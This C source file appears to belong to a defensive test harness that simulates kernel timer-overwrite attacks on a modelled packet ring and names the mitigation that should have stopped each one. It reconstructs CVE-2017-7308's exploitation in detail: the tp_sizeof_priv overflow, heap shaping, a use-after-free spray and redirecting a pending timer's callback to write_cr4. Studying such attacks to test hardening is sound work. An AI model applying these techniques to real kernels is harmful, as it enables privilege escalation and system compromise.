/* SPDX-License-Identifier: MIT */
/*
 * Techniques: how the attacker's bytes get into the victim, through which
 * bug, and when (before the victim arms the timer, so the list pointers
 * need no leak; or while it is pending, keeping the leaked list pointers;
 * or, as CVE-2017-7308's exploit did, while it is pending with the list
 * pointers zeroed: ring-block-overflow, into af_packet's own socket,
 * af_packet.h; the other techniques write the generic neighbour of
 * victim.h). Every attack
 * follows LKDTM's shape: say what it attempts, write, check that the write
 * landed (TH-LANDED), then trigger (let the wheel run past the expiry) and
 * say what happened; when it survives, name what should have stopped it.
 */
#include "attack.h"

#include <stdio.h>
#include <string.h>

#include "slab.h"

/* Far enough past the expiry (level 0, +8 jiffies) for any rounding. */
#define TH_RUN_SLACK	64UL
/* Same-size objects the uaf-realloc attacker sprays after the free. */
#define TH_SPRAY_COUNT	8

struct ctx {
	const struct th_attack *a;
	struct th_plan plan;
	struct packet_ring *ring;
	struct th_ring_snapshot before;
	int pending;
	struct msg_buf *msg;	/* heap-neighbour: the slab neighbour written from */
	unsigned long run_for;	/* jiffies the wheel runs past the arming */
};

/* ---- the attacker's view of the ring --------------------------------------------- */

/* The ring's bytes at the default offsets, as a leak would give them. */
static void leak_ring(const struct packet_ring *ring, struct atk_ring *out)
{
	th_peek(out, ring, sizeof(*out));
}

/* Before arming, the attacker needs no leak for the list: zeros are valid
 * (an unarmed timer's entry is NULL/NULL); expires is rewritten by mod_timer. */
static void view_of_ring(struct ctx *c, struct atk_ring *view)
{
	leak_ring(c->ring, view);
	if (!c->pending) {
		view->timer.next = 0;
		view->timer.pprev = 0;
		view->timer.expires = 0;
	} else {
		th_emit("TH-NOTE: leaked the pending timer: entry.next=0x%lx entry.pprev=0x%lx expires=0x%lx (kept as they are)",
			(unsigned long)view->timer.next, (unsigned long)view->timer.pprev,
			view->timer.expires);
	}
}

static void build(struct ctx *c)
{
	struct atk_ring view;

	view_of_ring(c, &view);
	th_payload_build(&c->plan, &view);
	th_emit("TH-NOTE: payload %s: %s", th_payload_name(c->a->payload), c->plan.what);
}

/* ---- the victim's side of the story ---------------------------------------------- */

static int create_ring(struct ctx *c)
{
	c->ring = ring_create("eth0-rx");
	if (!c->ring) {
		th_emit("TH-NOTE: ring_create failed (slab full)");
		return -1;
	}
	return 0;
}

static void arm(struct ctx *c, const char *why)
{
	int ret = ring_arm(c->ring);

	th_emit("TH-NOTE: victim arms retire_blk_timer (%s): mod_timer(jiffies + %lu) = %d", why,
		TH_RETIRE_TMO, ret);
}

/* ---- techniques ------------------------------------------------------------------ */

static void do_memcpy_intra(struct ctx *c)
{
	if (c->plan.goal.control) {
		ring_set_name(c->ring, "eth0-rx1", 9);
		th_emit("TH-NOTE: ring_set_name(ring, \"eth0-rx1\", 9): a legitimate name");
		return;
	}
	th_emit("TH-NOTE: ring_set_name(ring, buf, %zu): name[16] is followed by retire_blk_timer, the copy runs through it",
		c->plan.reach);
	ring_set_name(c->ring, &c->plan.img, c->plan.reach);
}

static void write_range(struct ctx *c, size_t from, size_t to)
{
	const unsigned char *img = (const unsigned char *)&c->plan.img;

	for (size_t i = from; i < to; i++)
		ring_set_byte(c->ring, i, img[i]);
}

static void do_index_intra(struct ctx *c)
{
	if (c->plan.goal.control) {
		ring_set_byte(c->ring, 6, 'X');
		th_emit("TH-NOTE: ring_set_byte(ring, 6, 'X'): a legitimate index");
		return;
	}
	/* In bounds first (the planted bytes), then only the pointer bytes. */
	write_range(c, 0, c->plan.plant_len);
	if (c->plan.goal.has_next) {
		th_emit("TH-NOTE: ring_set_byte(ring, %zu..%zu, ...): entry.next's bytes, past name[15]",
			(size_t)ATK_OFF_NEXT, (size_t)ATK_OFF_NEXT + 7);
		write_range(c, ATK_OFF_NEXT, ATK_OFF_NEXT + sizeof(uintptr_t));
	}
	if (c->plan.goal.has_pprev) {
		th_emit("TH-NOTE: ring_set_byte(ring, %zu..%zu, ...): entry.pprev's bytes",
			(size_t)ATK_OFF_PPREV, (size_t)ATK_OFF_PPREV + 7);
		write_range(c, ATK_OFF_PPREV, ATK_OFF_PPREV + sizeof(uintptr_t));
	}
	if (c->plan.sets_function) {
		th_emit("TH-NOTE: ring_set_byte(ring, %zu..%zu, ...): .function's bytes, past name[15]",
			(size_t)ATK_OFF_FUNCTION, (size_t)ATK_OFF_FUNCTION + 7);
		write_range(c, ATK_OFF_FUNCTION, ATK_OFF_FUNCTION + sizeof(uintptr_t));
	}
	if (c->plan.sets_after) {
		size_t at = ATK_OFF_TIMER + sizeof(atk_timer);

		th_emit("TH-NOTE: ring_set_byte(ring, %zu..%zu, ...): the word after the timer",
			at, at + 7);
		write_range(c, at, at + sizeof(uintptr_t));
	}
#if TH_ATK_HAS_DATA
	if (c->plan.sets_data) {
		th_emit("TH-NOTE: ring_set_byte(ring, %zu..%zu, ...): .data's bytes",
			(size_t)ATK_OFF_DATA, (size_t)ATK_OFF_DATA + 7);
		write_range(c, ATK_OFF_DATA, ATK_OFF_DATA + sizeof(unsigned long));
	}
#endif
}

/*
 * The closest NUL-free string to the image: filler before .function (name,
 * entry, expires) has each zero byte replaced by 'A'; from .function on,
 * bytes are copied up to the first zero, where strcpy's own NUL lands. An
 * x86-64 user address ends in two zero bytes, so .function is rewritten
 * through its low bytes at most, and nothing after it is reachable.
 */
static size_t strcpy_string(const struct ctx *c, char *out, size_t n)
{
	const unsigned char *img = (const unsigned char *)&c->plan.img;
	size_t len = 0;

	for (size_t i = 0; i < c->plan.reach && len + 1 < n; i++) {
		if (i < ATK_OFF_FUNCTION)
			out[len++] = img[i] ? (char)img[i] : 'A';
		else if (img[i])
			out[len++] = (char)img[i];
		else
			break;
	}
	out[len] = 0;
	return len;
}

static void do_strcpy_intra(struct ctx *c)
{
	char s[sizeof(struct atk_ring) + 1];
	size_t len;

	if (c->plan.goal.control) {
		ring_set_name_str(c->ring, "eth0-rx1");
		th_emit("TH-NOTE: ring_set_name_str(ring, \"eth0-rx1\"): a legitimate name");
		return;
	}
	len = strcpy_string(c, s, sizeof(s));
	th_emit("TH-NOTE: ring_set_name_str(ring, s): %zu bytes + NUL (image needs %zu); zero bytes before .function became 'A', the copy stops at .function's first zero byte%s",
		len, c->plan.reach,
		len < c->plan.reach ? ": a partial overwrite" : "");
	ring_set_name_str(c->ring, s);
}

/* msg header size, as the attacker knows it (struct msg_buf's mirror). */
struct atk_msg_hdr {
	uint32_t len, type;
};
#define TH_MSG_LEN	64u

static void do_heap_neighbour(struct ctx *c)
{
	/* The ring starts one slot (TH_KMALLOC_SIZE, from slabinfo) after
	 * the msg; its data starts after the header. */
	const size_t gap = TH_KMALLOC_SIZE - sizeof(struct atk_msg_hdr);
	unsigned char buf[TH_KMALLOC_SIZE + sizeof(struct atk_ring)];

	if (c->plan.goal.control) {
		msg_store(c->msg, "hello", 6);
		th_emit("TH-NOTE: msg_store(msg, \"hello\", 6): within its %u bytes", TH_MSG_LEN);
		return;
	}
	memset(buf, 'M', gap);
	memcpy(buf + gap, &c->plan.img, c->plan.reach);
	th_emit("TH-NOTE: msg_store(msg, buf, %zu): msg has %u bytes; the copy runs through the rest of its slot into the next slot's ring",
		gap + c->plan.reach, TH_MSG_LEN);
	msg_store(c->msg, buf, gap + c->plan.reach);
}

/* ---- the common frame -------------------------------------------------------------- */

/* What, from first principles, should have stopped this attack. */
static void name_stoppers(const struct ctx *c)
{
	static const char *const by_technique[TH_TECH_COUNT] = {
		[TH_TECH_MEMCPY_INTRA] = "fortify (field-spanning memcpy check); not asan (inside one object)",
		[TH_TECH_INDEX_INTRA] = "bounds (-fsanitize=array-bounds)",
		[TH_TECH_STRCPY_INTRA] = "fortify built by GCC (glibc's inline strcpy wrapper; under clang it cannot size name[16])",
		[TH_TECH_HEAP_NEIGHBOUR] = "asan (redzone between slab objects)",
		[TH_TECH_UAF_REALLOC] = "asan (freed object poisoned and quarantined)",
		[TH_TECH_RING_BLOCK_OVERFLOW] = "the fix (2b6867c2ce76: tp_sizeof_priv bounded in packet_set_ring()); not asan (the copy lands inside another live object, the socket), not bounds or fortify (a copy through a computed offset)",
	};
	const char *by_payload;

	switch (c->a->payload) {
	case TH_PAYLOAD_FUNC_DATA_WRITE_CR4:
	case TH_PAYLOAD_FUNC_WRITE_CR4:
		by_payload = TH_ATK_HAS_DATA ? "no type-based CFI: write_cr4(unsigned long) has the callback's prototype"
					     : "cfi-icall, kcfi, fsanitize-function: write_cr4 is not a void (*)(struct timer_list *)";
		break;
	case TH_PAYLOAD_FUNC_SAME_CLASS:
		by_payload = "no type-based CFI: same prototype as the callback";
		break;
	case TH_PAYLOAD_FUNC_PTR_CLASS:
		by_payload = TH_ATK_HAS_DATA ? "cfi-icall, kcfi, fsanitize-function (pointer vs unsigned long)"
					     : "cfi-icall, kcfi, fsanitize-function; not cfi-icall-generalized";
		break;
	case TH_PAYLOAD_DATA_FAKE_OBJECT:
		by_payload = "no CFI: the legitimate callback is called, on a fake object";
		break;
	case TH_PAYLOAD_FUNC_FOREIGN_CALLBACK:
		by_payload = "no type-based CFI: a legitimate callback of the call site's type calls write_cr4 through a pointer of write_cr4's type";
		break;
	case TH_PAYLOAD_FUNC_NOT_ADDRESS_TAKEN:
		by_payload = "cfi-icall (its address is never taken: not in the jump table); not kcfi or fsanitize-function on the 4.14 layout (same type)";
		break;
	case TH_PAYLOAD_FUNC_RAW_BODY:
		by_payload = "cfi-icall (a body is not a jump-table entry); not kcfi or fsanitize-function (the body carries the hash)";
		break;
	case TH_PAYLOAD_LIST_FORGED_TIMER:
		by_payload = TH_ATK_HAS_DATA ? "no type-based CFI: the forged timer's write_cr4(unsigned long) has the call site's type; nothing checks the hlist pointers (CONFIG_DEBUG_LIST covers list_head only)"
					     : "cfi-icall, kcfi, fsanitize-function: the forged timer's write_cr4 is not a void (*)(struct timer_list *)";
		break;
	default:
		by_payload = "cfi-icall, kcfi (not a valid target of this type)";
		break;
	}
	th_emit("TH-NOTE: FAIL: the overwrite reached the call; should have been stopped by %s, or by %s",
		by_technique[c->a->technique], by_payload);
}

static void trigger(struct ctx *c)
{
	struct timer_base *base = th_this_base();
	unsigned long now = jiffies, until = now + c->run_for + TH_RUN_SLACK;
	long fired;

	th_emit("TH-NOTE: running the timer wheel from jiffy 0x%lx to 0x%lx", now, until);
	fired = run_timers(base, until);
	th_schedule_after_softirq();
	if (th_target_hits)
		name_stoppers(c);
	else if (th_legit_hits && c->plan.goal.control)
		th_emit("TH-NOTE: control: the legitimate callback ran on its own ring");
	else if (th_legit_hits)
		th_emit("TH-NOTE: the legitimate callback ran on its own ring: the overwrite did not change the call");
	else if (th_stray_hits)
		th_emit("TH-NOTE: the legitimate callback ran on a corrupted argument the attacker did not aim at");
	else
		th_emit("TH-NOTE: no callback ran");
	if (c->a->technique == TH_TECH_RING_BLOCK_OVERFLOW)
		th_emit("TH-DONE: fired=%ld targets=%lu legit=%lu stray=%lu bystanders=%lu cr4=0x%lx uid=%u",
			fired, th_target_hits, th_legit_hits, th_stray_hits, th_af_bystander_hits,
			th_read_cr4(), current_cred.uid);
	else
		th_emit("TH-DONE: fired=%ld targets=%lu legit=%lu stray=%lu cr4=0x%lx uid=%u", fired,
			th_target_hits, th_legit_hits, th_stray_hits, th_read_cr4(), current_cred.uid);
}

static void landed(struct ctx *c)
{
	th_report_landed(c->ring, &c->before, &c->plan.goal);
}

/* The write techniques' frame, once the ring exists: arm it now (pending) or
 * after the write (before-arm), write through the technique's bug, check. */
static int overwrite_and_trigger(struct ctx *c)
{
	if (c->pending)
		arm(c, "it is pending while the attacker writes");
	build(c);
	th_ring_snapshot(c->ring, &c->before);
	switch (c->a->technique) {
	case TH_TECH_MEMCPY_INTRA:
		do_memcpy_intra(c);
		break;
	case TH_TECH_INDEX_INTRA:
		do_index_intra(c);
		break;
	case TH_TECH_HEAP_NEIGHBOUR:
		do_heap_neighbour(c);
		break;
	default:
		do_strcpy_intra(c);
		break;
	}
	landed(c);
	if (!c->pending)
		arm(c, "after the overwrite: an unarmed timer needs no leaked list pointers");
	trigger(c);
	return 0;
}

static int run_intra(struct ctx *c)
{
	if (create_ring(c))
		return 1;
	return overwrite_and_trigger(c);
}

static int run_heap_neighbour(struct ctx *c)
{
	int ms, rs;

	c->msg = msg_alloc(TH_MSG_LEN, 1);
	if (!c->msg || create_ring(c))
		return 1;
	ms = th_slab_slot(c->msg);
	rs = th_slab_slot(c->ring);
	th_emit("TH-NOTE: slab: msg_buf in slot %d, ring in slot %d (%s), stride %zu%s", ms, rs,
		rs == ms + 1 ? "adjacent" : "NOT adjacent", th_slab_stride(),
		th_slab_kasan() ? " (KASAN redzones)" : "");
	return overwrite_and_trigger(c);
}

static int run_uaf_realloc(struct ctx *c)
{
	unsigned char filler[sizeof(struct atk_ring)];
	const void *spray[TH_SPRAY_COUNT];	/* kept allocated, like setxattr+userfaultfd */
	int hit = -1;

	if (create_ring(c))
		return 1;
	arm(c, "the ring's timer is pending when it is freed");
	build(c);
	th_ring_snapshot(c->ring, &c->before);
	if (c->plan.goal.control) {
		/* The victim keeps its ring; the spray is harmless. */
		memset(filler, 'S', sizeof(filler));
		for (int i = 0; i < TH_SPRAY_COUNT; i++)
			spray[i] = spray_alloc(filler, sizeof(filler));
		th_emit("TH-NOTE: control: the ring stays allocated; sprayed %d unrelated objects",
			TH_SPRAY_COUNT);
	} else {
		th_emit("TH-NOTE: victim frees the ring with retire_blk_timer still pending (no del_timer_sync)");
		ring_release_buggy(c->ring);
		for (int i = 0; i < TH_SPRAY_COUNT; i++) {
			spray[i] = spray_alloc(&c->plan.img, sizeof(c->plan.img));
			if (spray[i] == (const void *)c->ring && hit < 0)
				hit = i;
		}
		th_emit("TH-NOTE: sprayed %d objects of %zu bytes; %s", TH_SPRAY_COUNT,
			sizeof(c->plan.img),
			hit >= 0 ? "spray hit the freed slot" :
			th_slab_kasan() ? "none got the freed slot (KASAN quarantine)" :
					  "none got the freed slot");
	}
	landed(c);
	trigger(c);
	return 0;
}

/* The exploit's frame (poc.c oob_timer_execute()): a zeroed buffer with a
 * struct timer_list at buffer[8], sent from buffer + 2, sizeof(*timer) + 8
 * - 2 bytes. Its timer_list was 4.8's with CONFIG_TIMER_STATS (start_pid,
 * start_site, start_comm: 72 bytes), so 78 bytes, its first 6 in front of
 * the timer: those 78, whatever this kernel's timer_list is. */
#define TH_CVE_LEAD		6u
#define TH_CVE_WRITE_LEN	78u
/* poc.c: ETH_HDR_LEN, the link header of a frame looped back. */
#define TH_ETH_HLEN		14u
/* poc.c oob_setup(): a ring of 100 ms; packet_sock_timer_schedule(): 1000. */
#define TH_CVE_OOB_TOV		100u
#define TH_CVE_TOV		1000u

/*
 * CVE-2017-7308 as its exploit did it (Konovalov's poc.c,
 * oob_timer_execute(); net/packet/af_packet.c of its kernels):
 *  1. oob_setup(): the attacker's own socket, TPACKET_V3, PACKET_RX_RING
 *     with tp_sizeof_priv = (1u<<31) + (1u<<30) + block_size - BLK_HDR_LEN
 *     - macoff + offset: packet_set_ring()'s check on its 32-bit
 *     BLK_PLUS_PRIV() passes, and blk_sizeof_priv keeps its low 16 bits, so
 *     a frame lands at block + block_size + offset + 2 (BLK_PLUS_PRIV()
 *     aligns up to 8, macoff is 82: 2 mod 8). The heap is shaped so that
 *     this ring's block lies right before a fresh slab page of sockets;
 *  2. 32 sockets, each PACKET_RX_RING: init_prb_bdqc() -> prb_open_block()
 *     -> mod_timer(): each retire_blk_timer pending (1000 ms), all in one
 *     bucket, the last armed first in its list;
 *  3. one looped-back frame of 78 bytes, its copy landing in the socket
 *     whose timer lies offset + 8 past the block's end (poc.c: offset = 2048
 *     + TIMER_OFFSET - 8, the second object of the page, TIMER_OFFSET from
 *     pahole), from 6 bytes before that timer: zeros over the end of
 *     tov_in_jiffies, then the timer: entry and expires zeroed (no pointer
 *     leaked), .function and .data as the payload wants them, .flags = 1,
 *     then zeros over tx_ring's first words;
 *  4. the wheel: the zeroed entry.next ends the bucket's list at the victim
 *     (the socket armed before it is never run); the victim's zeroed pprev
 *     is set again when the timer before it in the list is detached
 *     (__hlist_del(): next->pprev = pprev), so detach_timer() does not fault;
 *     call_timer_fn() calls .function(.data). .flags is read by nobody at
 *     expiry (CPU 1, not TIMER_IRQSAFE).
 * The payloads that plant bytes in a buffer in front of the timer have
 * none here: what lies 16 bytes before it is ring state, which the frame
 * does not reach (TH-LANDED says so).
 */
static int run_ring_block_overflow(struct ctx *c)
{
	const unsigned int macoff = th_af_macoff(TH_ETH_HLEN);
	/* The attacker's pahole: its socket's size class and TIMER_OFFSET. */
	const unsigned int offset = TH_AF_SOCK_SLOT + (unsigned int)TH_PO_TIMER_OFF - 8;
	struct tpacket_req3 oob_req = {
		.tp_block_size = TH_AF_BLOCK_SIZE, .tp_block_nr = 1,
		.tp_frame_size = 2048, .tp_frame_nr = TH_AF_BLOCK_SIZE / 2048,
		.tp_retire_blk_tov = TH_CVE_OOB_TOV,
	};
	struct tpacket_req3 req = {
		.tp_block_size = TH_AF_BLOCK_SIZE, .tp_block_nr = 1,
		.tp_frame_size = TH_AF_BLOCK_SIZE, .tp_frame_nr = 1,
		.tp_retire_blk_tov = TH_CVE_TOV,
	};
	unsigned char buffer[TH_CVE_WRITE_LEN + 2];
	struct packet_sock *oob, *sock[TH_AF_SOCKS], *victim = NULL;
	struct th_af_snapshot before;
	struct atk_ring view;
	unsigned char *at;
	int err;

	if (!c->plan.goal.control)
		oob_req.tp_sizeof_priv = (1u << 31) + (1u << 30) + TH_AF_BLOCK_SIZE -
					 (unsigned int)BLK_HDR_LEN - macoff + offset;
	oob = th_af_socket_attacker();
	err = th_af_set_rx_ring(oob, &oob_req, 1);
	th_emit("TH-NOTE: attacker's socket: PACKET_RX_RING, TPACKET_V3, tp_sizeof_priv 0x%x: packet_set_ring() = %d; its block %p, right before the slab page of the sockets; blk_sizeof_priv %u, frames at +%lu",
		oob_req.tp_sizeof_priv, err, (void *)oob->rx_ring.pg_vec[0].buffer,
		oob->rx_ring.prb_bdqc.blk_sizeof_priv,
		(unsigned long)BLK_PLUS_PRIV(oob->rx_ring.prb_bdqc.blk_sizeof_priv));
	if (err)
		return 1;
	for (int i = 0; i < TH_AF_SOCKS; i++) {
		sock[i] = th_af_socket();
		if (!sock[i] || th_af_set_rx_ring(sock[i], &req, 0))
			return 1;
		if ((unsigned char *)sock[i] ==
		    (unsigned char *)oob->rx_ring.pg_vec[0].buffer + TH_AF_BLOCK_SIZE + TH_AF_SOCK_SLOT)
			victim = sock[i];
	}
	if (!victim)
		return 1;
	th_af_watched = victim;
	c->run_for = TH_CVE_TOV;
	th_emit("TH-NOTE: %d sockets armed (PACKET_RX_RING, retire_blk_tov %u ms); the one after the block's page and one socket is %p, its retire_blk_timer at %p (+%zu)",
		TH_AF_SOCKS, TH_CVE_TOV, (void *)victim,
		(void *)&victim->rx_ring.prb_bdqc.retire_blk_timer, (size_t)TH_PO_TIMER_OFF);

	/* The attacker's image of the victim's timer, in its default layout:
	 * what a leak gives for .function and .data, entry and expires zero
	 * (nothing leaked there), .flags 1 (poc.c). */
	memset(&view, 0, sizeof(view));
	th_peek(&view.timer, &victim->rx_ring.prb_bdqc.retire_blk_timer, sizeof(view.timer));
	view.timer.next = 0;
	view.timer.pprev = 0;
	view.timer.expires = 0;
	view.timer.flags = 1;
	c->pending = 1;
	th_payload_build(&c->plan, &view);
	th_emit("TH-NOTE: payload %s: %s; entry and expires zeroed, .flags = 1 (poc.c)",
		th_payload_name(c->a->payload), c->plan.what);
	th_af_snapshot(victim, &before);
	if (c->plan.goal.control) {
		at = th_af_tpacket_rcv(oob, "frame", 6, TH_ETH_HLEN);
		th_emit("TH-NOTE: tpacket_rcv(): a 6-byte frame copied to %p, inside the attacker's block",
			(void *)at);
	} else {
		memset(buffer, 0, sizeof(buffer));
		memcpy(buffer + 2 + TH_CVE_LEAD, &c->plan.img.timer, sizeof(c->plan.img.timer));
		at = th_af_tpacket_rcv(oob, buffer + 2, TH_CVE_WRITE_LEN, TH_ETH_HLEN);
		th_emit("TH-NOTE: tpacket_rcv(): the frame's %u bytes copied to %p, %ld bytes before the victim's retire_blk_timer",
			TH_CVE_WRITE_LEN, (void *)at,
			(long)((unsigned char *)&victim->rx_ring.prb_bdqc.retire_blk_timer - at));
	}
	th_af_report_landed(victim, &before, &c->plan.goal);
	trigger(c);
	return 0;
}

int th_attack_run(const struct th_attack *a)
{
	struct ctx c;

	if (!strcmp(th_technique_api(a->technique), "tasklet"))
		return th_tasklet_attack_run(a);
	memset(&c, 0, sizeof(c));
	c.a = a;
	c.pending = a->timing == TH_TIMING_PENDING;
	c.run_for = TH_RETIRE_TMO;
	th_emit("TH-NOTE: attempting %s on %s (config %s, seed %s): %s, %s, payload %s", a->id,
		TH_ATK_VARIANT, TH_ATK_CONFIG, TH_ATK_SEED, th_technique_name(a->technique),
		th_timing_name(a->timing), th_payload_name(a->payload));
	th_emit("TH-NOTE: technique: %s", th_technique_what(a->technique));
	if (th_payload_prepare(&c.plan, a->payload, a->technique == TH_TECH_RING_BLOCK_OVERFLOW))
		return 1;
	c.plan.pending = c.pending;
	switch (a->technique) {
	case TH_TECH_HEAP_NEIGHBOUR:
		return run_heap_neighbour(&c);
	case TH_TECH_UAF_REALLOC:
		return run_uaf_realloc(&c);
	case TH_TECH_RING_BLOCK_OVERFLOW:
		return run_ring_block_overflow(&c);
	default:
		return run_intra(&c);
	}
}
